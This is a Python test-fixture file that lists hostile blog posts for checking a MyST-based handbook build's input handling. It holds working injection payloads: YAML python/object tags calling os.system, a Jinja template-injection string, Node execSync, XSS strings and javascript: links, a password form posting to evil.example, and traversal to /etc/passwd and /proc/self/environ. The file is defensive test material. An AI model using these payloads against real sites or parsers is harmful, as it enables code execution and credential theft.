"""The hostile catalogue: one post per way a post can be wrong or written to break the build.

Used by ``test_hostile_input.py`` (each case built and checked), ``test_commands.py``
(``./dev check`` says what the build says), ``test_schema.py`` and ``test_validation.py``.
"""

from __future__ import annotations

import os
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from helpers import post

# Marker files that commands hidden in posts would create: they must never appear.
MARKER_PREFIX = f"/tmp/handbook-pwned-{uuid.uuid4().hex[:12]}"
SECRET = f"TOP-SECRET-{uuid.uuid4().hex}"

# The real handbook's MyST settings (conf.py), so hostile Markdown parses as it would there.
MYST = {"myst_enable_extensions": ["colon_fence", "attrs_inline"], "myst_heading_anchors": 3}


def _fm(*lines: str, body: str = "Some text.") -> str:
    """A post whose front matter is exactly these lines (line 1 is ``---``)."""
    return "---\n" + "\n".join(lines) + "\n---\n\n" + body + "\n"


@dataclass(frozen=True)
class Case:
    name: str  # the post's path under posts/, without .md
    text: str | bytes
    # Expected warnings naming this post, in line order: (line or lines accepted, regex).
    warnings: tuple[tuple[int | tuple[int, ...] | None, str], ...] = ()
    listed: bool = True
    title: str | None = None  # the page's <h1>, when the case is about it
    date: str | None = None  # the byline's date, when the case is about it
    chips: tuple[str, ...] | None = None  # the post's tag chips, when the case is about them
    xfail: dict[str, str] = field(default_factory=dict)  # aspect -> why it fails today


TAGS_PATHS = ("../../x", "/etc/passwd", "..\\..\\win", ".", "..", "~", "CON", "nul", "tags/../../y", "a/b",
              "a-b", "a b", "a_b")
TAGS_URLS = ("https://evil.example/a?b=c&d=e", "//evil.example/x", "javascript:alert(1)", "mailto:x@example.com")
TAGS_MARKUP = ("<script>alert(1)</script>", "](javascript:alert(1))", "[x](javascript:alert(2))", "`code`",
               "{raw}`html <b>x</b>`", "{eval-rst}", "<img src=x onerror=alert(3)>", '" onmouseover="alert(4)',
               "**bold**", "AT&T", "&lt;i&gt;", "{{ page.title }}", "{% include x.html %}")
TAGS_UNICODE = ("café", "営業", "🚀", "عربي", "👩\u200d💻", "Ünïcödé")
TITLE_HTML = "\"'><script>alert(1)</script><img src=x onerror=alert(2)> <b>bold</b> & <!-- c -->"
TITLE_MARKDOWN = "**bold** _em_ [link](javascript:alert(1)) ![img](/media/x.png) `code` <https://evil.example>"
TITLE_TAG = "markup in titles"  # the two titles above share it: each is on the other's page (sidebar, related)
LONG_TITLE = "Long " * 1000
HUNDREDS = [f"t{i:03d}" for i in range(300)]

# What writers need of HTML: kept as written, no warning.
YOUTUBE = "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"
KEPT_HTML = f"""<details>
<summary>More</summary>

Inner **Markdown**.

</details>

<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="1">1</td></tr></tbody></table>

H<sub>2</sub>O, E = mc<sup>2</sup>, <kbd>Ctrl</kbd>, <abbr title="Search engine optimisation">SEO</abbr>.

<figure><img src="https://cdn.example.com/x.png" alt="A chart" width="320" height="200">\
<figcaption>A chart</figcaption></figure>

<iframe width="560" height="315" src="{YOUTUBE}" title="A video" frameborder="0" allow="autoplay" allowfullscreen></iframe>
"""

CASES: list[Case] = [
    # ---- the front matter as a whole ---------------------------------------------
    Case("fm-not-yaml", _fm("title: [unclosed", "date: 2025-01-01", "tags: [seo]"),
         warnings=(((1, 2), "."),)),
    Case("fm-empty", "---\n---\n\nSome text.\n", warnings=((1, "."),)),
    Case("fm-list", "---\n- title\n- date\n---\n\nSome text.\n", warnings=((1, "."),)),
    Case("fm-scalar", "---\njust a sentence\n---\n\nSome text.\n", warnings=((1, "."),)),
    Case("fm-missing", "Some text, no front matter at all.\n", warnings=((1, "."),), title="Fm missing"),
    Case("fm-missing-h1", "# Its Own Heading\n\nSome text, no front matter.\n",
         warnings=((1, "no front matter"),), title="Its Own Heading"),
    Case("bom", "\ufeff" + post("BOM post", "2025-01-02", ["post", "seo"]),
         title="BOM post", date="2 January 2025", chips=("seo",)),
    Case("crlf", post("CRLF post", "2025-01-03", ["post", "seo"]).replace("\n", "\r\n").encode(),
         title="CRLF post", date="3 January 2025", chips=("seo",)),
    Case("bom-crlf-bad-date", ("\ufeff" + post("BOM CRLF", "someday", ["post", "seo"])).replace("\n", "\r\n").encode(
        "utf-8"), warnings=((3, r"'date' is not a date.*\[handbook\.frontmatter\]"),), title="BOM CRLF",
         date="undated"),
    # ---- YAML that would construct objects or explode --------------------------------
    Case("yaml-python-apply", _fm(f'title: !!python/object/apply:os.system ["touch {MARKER_PREFIX}-apply"]',
                                  "date: 2025-01-01"), warnings=(((1, 2), "."),)),
    Case("yaml-python-new", _fm("date: 2025-01-01",
                                f'title: !!python/object/new:subprocess.check_call [["touch", "{MARKER_PREFIX}-new"]]'),
         warnings=(((1, 3), "."),)),
    Case("yaml-python-name", _fm("title: !!python/name:os.system", "date: 2025-01-01"), warnings=(((1, 2), "."),)),
    Case("yaml-python-document", f'--- !!python/object/apply:os.system ["touch {MARKER_PREFIX}-doc"]\n'
                                 'title: Tagged document\ndate: 2025-01-01\n---\n\nSome text.\n',
         title="Tagged document"),
    Case("yaml-set-binary", _fm("title: Sets and bytes", "date: 2025-01-01", "tags: !!set {seo: null, ads: null}",
                                "blob: !!binary aGVsbG8="), chips=("ads", "seo")),
    Case("yaml-billion-laughs", _fm("title: Laughs", "date: 2025-01-01", "tags: &a [lol, lol, lol, lol, lol]",
                                    *(f"{k}: &{k} [{', '.join([f'*{p}'] * 9)}]"
                                      for p, k in zip("abcdefgh", "bcdefghi"))),
         warnings=((tuple(range(1, 13)), r"too large"),), title="Laughs", chips=("lol",)),
    Case("yaml-recursive", _fm("title: Recursive", "date: 2025-01-01", "tags: &a [seo, *a]"),
         warnings=((4, r"tags"),), title="Recursive"),
    # ---- title ------------------------------------------------------------------------
    Case("title-missing", _fm("date: 2025-01-01", "tags: [seo]"),
         warnings=((1, r"missing 'title'.*\[handbook\.frontmatter\]"),), title="Title missing"),
    Case("title-empty", _fm('title: ""', "date: 2025-01-01"), warnings=((2, r"'title' is empty"),),
         title="Title empty"),
    Case("title-null", _fm("title:", "date: 2025-01-01"), warnings=((2, r"'title'"),), title="Title null"),
    Case("title-list", _fm("title: [a, b]", "date: 2025-01-01"), warnings=((2, r"'title' must be text"),),
         title="Title list"),
    Case("title-mapping", _fm("title: {a: 1}", "date: 2025-01-01"), warnings=((2, r"'title' must be text"),),
         title="Title mapping"),
    Case("title-number", _fm("title: 2024", "date: 2025-01-01"), title="2024"),
    Case("title-long", post(LONG_TITLE), warnings=((2, r"'title' is longer than 300 characters"),)),
    Case("title-html", post(TITLE_HTML, tags=["post", TITLE_TAG]), title=TITLE_HTML),
    Case("title-markdown", post(TITLE_MARKDOWN, tags=["post", TITLE_TAG]), title=TITLE_MARKDOWN),
    Case("title-myst-raw", post("{raw}`html <script>alert(1)</script>` title"),
         title="{raw}`html <script>alert(1)</script>` title"),
    Case("title-myst-eval-rst", post("{eval-rst}`.. raw:: html` and {doc}`nowhere`"),
         title="{eval-rst}`.. raw:: html` and {doc}`nowhere`"),
    Case("title-rst", post("`x <javascript:alert(1)>`_ and :raw-html:`<b>x</b>` and .. raw:: html"),
         title="`x <javascript:alert(1)>`_ and :raw-html:`<b>x</b>` and .. raw:: html"),
    # ---- date -------------------------------------------------------------------------
    Case("date-unparseable", post("Someday", "someday"), warnings=((3, r"'date' is not a date"),), date="undated"),
    Case("date-timezone", _fm("title: Time zone", "date: 2025-04-03T23:30:00-05:00"), date="3 April 2025"),
    Case("date-utc", _fm("title: UTC", "date: 2025-04-03T08:00:00Z"), date="3 April 2025"),
    Case("date-future", post("From the future", "2999-12-31"), date="31 December 2999"),
    Case("date-quoted", _fm("title: Quoted", 'date: "2025-02-03"'), date="3 February 2025"),
    Case("date-mkdocs", _fm("title: MkDocs", "date:", "  created: 2023-12-31", "  updated: 2024-01-02"),
         date="31 December 2023"),
    Case("date-mapping-no-created", _fm("title: Updated only", "date: {updated: 2024-01-02}"),
         warnings=((3, r"'date' is not a date"),), date="undated"),
    # A number is a Unix time (Jigsaw writes seconds, Dendron milliseconds): its UTC day.
    Case("date-number", _fm("title: Epoch", "date: 1700000000"), date="14 November 2023"),
    Case("date-small-number", _fm("title: Small", "date: 42"), warnings=((3, r"'date' is not a date"),),
         date="undated"),
    Case("date-out-of-range", _fm("title: February 30", "date: 2025-02-30", "tags: [seo]"),
         warnings=((3, r"'date'"),), title="February 30", date="undated", chips=("seo",)),
    # ---- tags -------------------------------------------------------------------------
    Case("tags-one-string", _fm("title: One string", "date: 2025-01-01", "tags: seo"), chips=("seo",)),
    Case("tags-comma-string", _fm("title: Commas", "date: 2025-01-01", "tags: seo, Email Marketing"),
         warnings=((4, r"'tags' should be a list"),), chips=("seo", "Email Marketing")),
    Case("tags-space-string", _fm("title: Spaces", "date: 2025-01-01", "tags: seo email marketing"),
         chips=("seo email marketing",)),
    Case("tags-numbers", _fm("title: Numbers", "date: 2025-01-01", "tags: [2024, 3.5]"), chips=("2024", "3.5")),
    Case("tags-junk", _fm("title: Junk", "date: 2025-01-01",
                          'tags: [null, "", "   ", [a, b], {k: v}, true, seo]'),
         warnings=((4, (r"ignored tags that are not short words: null, \"\", \"   \", \[\"a\", \"b\"\], "
                        r"\{\"k\": \"v\"\} and 1 more")),), chips=("seo",)),
    Case("tags-duplicates", post("Duplicates", tags=["seo", "seo", "SEO", " seo ", "S\u200bEO"]), chips=("seo",)),
    Case("tags-variants-1", post("Variant one", tags=["Email Marketing"]), chips=("Email Marketing",)),
    Case("tags-variants-2", post("Variant two", tags=[" email   marketing "]), chips=("Email Marketing",)),
    Case("tags-variants-3", post("Variant three", tags=["EMAIL MARKETING", "cafe\u0301"]),
         chips=("Email Marketing", "café")),
    Case("tags-hundreds", post("Hundreds", tags=HUNDREDS), warnings=((4, r"more than 50 tags; kept the first 50"),),
         chips=tuple(HUNDREDS[:50])),
    Case("tags-too-long", post("Too long", tags=["x" * 101, "seo"]), warnings=((4, r"not short words"),),
         chips=("seo",)),
    Case("tags-unicode", post("Unicode", tags=list(TAGS_UNICODE)), chips=TAGS_UNICODE),
    Case("tags-paths", post("Paths", tags=list(TAGS_PATHS)), chips=TAGS_PATHS),
    Case("tags-urls", post("URLs", tags=list(TAGS_URLS)), chips=TAGS_URLS),
    Case("tags-markup", post("Markup", tags=list(TAGS_MARKUP)), chips=TAGS_MARKUP),
    # ---- two posts, one name --------------------------------------------------------------
    Case("same-title-1", post("Same title")),
    Case("same-title-2", post("Same title")),
    Case("dup-slug", post("Slug at the top")),
    Case("sub/dup-slug", post("Slug in a folder"), warnings=((1, r"posts/dup-slug\b"),)),
    # ---- images -----------------------------------------------------------------------------
    Case("image-url", post("Image URL", image="https://cdn.example.com/x.png"),
         warnings=((5, r"image 'https://cdn\.example\.com/x\.png' is on another site"),)),
    Case("image-outside", post("Image outside", image="../../../../../../../../etc/hostname"),
         warnings=((5, r"is outside the project"),)),
    Case("image-missing", post("Image missing", image="/media/nope.webp"), warnings=((5, r"image file not found"),)),
    Case("image-absolute", post("Image absolute", image="/etc/hostname"), warnings=((5, r"image file not found"),)),
    Case("image-javascript", post("Image javascript", image="javascript:alert(1)"), warnings=((5, r"image"),)),
    Case("image-data", post("Image data", image="data:image/svg+xml,<svg onload=alert(1)>"),
         warnings=((5, r"image"),)),
    # ---- other engines ----------------------------------------------------------------------
    Case("jekyll", _fm("title: From Jekyll", "date: 2025-01-01", "layout: post", "categories: [marketing, seo]",
                       "permalink: /2025/01/01/from-jekyll/",
                       body="{% include cta.html %}\n\nThis post is called {{ page.title }}.\n\n"
                            "{% raw %}{{ not liquid }}{% endraw %}"),
         warnings=((9, r"(?i)liquid"),), title="From Jekyll"),
    Case("hugo", '+++\ntitle = "From Hugo"\ndate = 2025-01-01\ntags = ["seo"]\n+++\n\nSome text.\n',
         title="From Hugo", date="1 January 2025", chips=("seo",)),
    Case("docusaurus", _fm("title: From Docusaurus", "date: 2025-01-01", "authors: [jane, joe]",
                           "slug: /custom-url", "sidebar_position: 3",
                           body="import Tabs from '@theme/Tabs';\nimport TabItem from '@theme/TabItem';\n\n"
                                "Intro.\n\n<Tabs>\n  <TabItem value=\"a\" label=\"A\">Alpha</TabItem>\n</Tabs>"),
         warnings=((9, r"(?i)mdx|import"),), title="From Docusaurus"),
    Case("wordpress", _fm("title: From WordPress", "date: 2025-01-01",
                          body='<div class="wp-block-group"><p>Hello from WordPress.</p>\n'
                               '<iframe src="https://www.youtube.com/embed/xyz" width="560" height="315"></iframe>'
                               '</div>\n\nAfter the block.'), title="From WordPress"),
    # ---- other engines' fields: untrusted like the rest --------------------------------------
    Case("alias-hostile", _fm("title: Hostile aliases", "date: 2025-01-01",
                              "aliases: ['../../etc/x', 'https://evil.example/', 'javascript:alert(1)', '/ok/<b>/']",
                              "redirect_from: /fine/old-address/"),
         warnings=((4, r"'\.\./\.\./etc/x' is not a path"), (4, r"evil\.example"), (4, r"javascript"),
                   (4, r"<b>"))),
    Case("author-markup", _fm("title: Author markup", "date: 2025-01-01",
                              "author: '<script>alert(1)</script> & <img src=x onerror=alert(2)>'",
                              "description: '<img src=x onerror=alert(3)> **not bold**'",
                              "lastmod: someday"),
         warnings=((6, r"'lastmod' is not a date"),), title="Author markup"),
    Case("js-front-matter-code", "---js\n{\n  title: 'JS code',\n  date: '2025-01-01',\n"
                                 f"  tags: require('child_process').execSync('touch {MARKER_PREFIX}-js'),\n"
                                 "}\n---\n\nSome text.\n",
         warnings=((5, r"'tags' not read"),), title="JS code", date="1 January 2025"),
    Case("pelican-markup", "Title: <script>alert(1)</script> Pelican\nDate: 2025-01-01\n"
                           "Tags: <b>x</b>, seo\n\nSome text.\n",
         title="<script>alert(1)</script> Pelican", chips=("<b>x</b>", "seo")),
    Case("docusaurus-admonition-markup", _fm("title: Admonition markup", "date: 2025-01-01",
                                             body=":::note <img src=x onerror=alert(1)>\n\nText.\n:::\n\n"
                                                  "Before.\n\n<!-- truncate -->\n\nAfter.")),
    # ---- per-post MyST configuration and includes: never code, never markup, never outside -----
    Case("myst-substitution", _fm("title: Substitution", "date: 2025-01-01", "myst:",
                                  "  enable_extensions: [substitution]",
                                  body="{{ cycler.__init__.__globals__.os.system('touch "
                                       f"{MARKER_PREFIX}-jinja') }}}}"),
         warnings=((4, r"'myst' is ignored"),)),
    Case("myst-html-meta", _fm("title: Meta under myst", "date: 2025-01-01", "myst:", "  html_meta:",
                               '    "http-equiv=refresh": "0; url=https://evil.example/"'),
         warnings=((4, r"'myst' is ignored"),)),
    Case("html-meta-top", _fm("title: Meta at the top", "date: 2025-01-01", "html_meta:",
                              '  "http-equiv=refresh": "0; url=https://evil.example/"'),
         warnings=((4, r"'html_meta' is ignored"),)),
    Case("include-outside", _fm("title: Include outside", "date: 2025-01-01",
                                body="```{literalinclude} ../../secret.txt\n```\n\n```{include} ../../secret.txt\n```"),
         warnings=((6, r"(?i)disabled"), (9, r"(?i)disabled"))),
    # ---- the body's HTML: through the allow-list, each removal warned at its line ----------------
    Case("html-script", _fm("title: Script", "date: 2025-01-01",
                            body='Before.\n\n<script>alert(1)</script>\n\n<b onmouseover="alert(2)">After</b>.'),
         warnings=((8, r"<script>.*\[handbook\.html\]"), (10, r"onmouseover= on <b>"))),
    Case("html-raw-directive", _fm("title: Raw directive", "date: 2025-01-01",
                                   body="```{raw} html\n<script>alert(3)</script>\n```"),
         warnings=((6, r"the \{raw\} directive"),)),
    Case("html-eval-rst", _fm("title: Eval rst", "date: 2025-01-01",
                              body="```{eval-rst}\n.. raw:: html\n\n   <script>alert(4)</script>\n\n"
                                   "`x <javascript:alert(5)>`_\n\n.. meta::\n   :http-equiv=refresh: 0; url=https://evil.example/\n```"),
         warnings=((6, r"the \{eval-rst\} directive"),)),
    Case("html-links", _fm("title: Links", "date: 2025-01-01",
                           body='<a href="javascript:alert(6)">a</a> <a href="JaVaScRiPt&colon;alert(7)">b</a> '
                                '<a href="data:text/html,x">c</a> [d](javascript:alert(8)) <vbscript:msgbox>\n\n'
                                '[e][ref]\n\n[ref]: javascript:alert(9)'),
         warnings=((6, r"javascript: link on <a>, data: link on <a>"),)),
    Case("html-form-style-frame", _fm("title: Form, style, frame", "date: 2025-01-01",
                                      body='<form action="https://evil.example/steal"><input name="password">'
                                           '</form>\n\n<style>body { display: none }</style>\n\n'
                                           '<iframe src="https://evil.example/"></iframe>'),
         warnings=((6, r"<form> posting to evil\.example"), (8, r"<style>"), (10, r"<iframe> from evil\.example"))),
    Case("html-kept", _fm("title: What writers need", "date: 2025-01-01", body=KEPT_HTML)),
    Case("html-deep", _fm("title: Deep", "date: 2025-01-01", body="<div>" * 150 + "deep" + "</div>" * 150),
         warnings=((6, r"nested more than 100 elements deep"),)),
    # ---- files outside the project, named by a post: never read --------------------------------
    Case("download-outside", _fm("title: Download outside", "date: 2025-01-01",
                                 body="[the secret](../../secret.txt) and {download}`secret <../../secret.txt>`"),
         warnings=((6, r"the download '\.\./\.\./secret\.txt' is outside the project.*\[handbook\.file\]"),
                   # MyST makes the link a download when the file is there, else a link (markup.py)
                   (6, r"the (download|link to) '\.\./\.\./secret\.txt' is outside the project"))),
    Case("mermaid-file-outside", _fm("title: Diagram outside", "date: 2025-01-01",
                                     body="```{mermaid} ../../secret.txt\n```"),
         warnings=((6, r"the diagram file '\.\./\.\./secret\.txt' is outside the project"),)),
    # ---- names that differ only in case: both built, one warning naming both ---------------------
    Case("Same-Name", post("Same name, capitals")),
    Case("same-name", post("Same name, small letters"),
         warnings=((None, r"'posts/same-name\.md' and 'posts/Same-Name\.md' differ only in case"),)),
    # ---- size: the first handbook_max_post_chars characters, and a note --------------------------
    Case("too-long", post("Too long", body="Many words here. " * 13_000),
         warnings=((1, r"[\d,]+ characters long, more than handbook_max_post_chars.*\[handbook\.limit\]"),)),
    # ---- drafts --------------------------------------------------------------------------------
    Case("draft", post("A draft", draft=True), listed=False),
    Case("draft-invalid", post("Perhaps a draft", draft="perhaps"),
         warnings=((5, r"'draft' must be true or false"),)),
]
CASE_BY_NAME = {case.name: case for case in CASES}

# Post files that are links out of the project or special files: never read, never built, one
# warning naming the file (no line). Written by write_files (not text: not in CASES).
FILE_CASES = {"link-passwd": "/etc/passwd", "link-environ": "/proc/self/environ", "link-dev-zero": "/dev/zero",
              "link-secret": "../../secret.txt", "fifo": None}


def write_files(srcdir: Path) -> None:
    """The FILE_CASES: links (target) and a FIFO (None) in posts/."""
    for name, target in FILE_CASES.items():
        path = srcdir / "posts" / f"{name}.md"
        path.parent.mkdir(parents=True, exist_ok=True)
        if target is None:
            os.mkfifo(path)
        else:
            path.symlink_to(target)
MARKERS = {"yaml-python-apply": "apply", "yaml-python-new": "new", "yaml-python-document": "doc",
           "myst-substitution": "jinja", "js-front-matter-code": "js"}


def cases(aspect: str, only=lambda case: True):
    """The cases as pytest params, ``xfail(strict=True)`` where ``aspect`` fails today."""
    return [
        pytest.param(case, id=case.name,
                     marks=[pytest.mark.xfail(strict=True, reason=case.xfail[aspect])] if aspect in case.xfail else [])
        for case in CASES if only(case)
    ]


def write_case(srcdir: Path, case: Case) -> None:
    path = srcdir / "posts" / f"{case.name}.md"
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(case.text, bytes):
        path.write_bytes(case.text)
    else:
        path.write_bytes(case.text.encode("utf-8"))
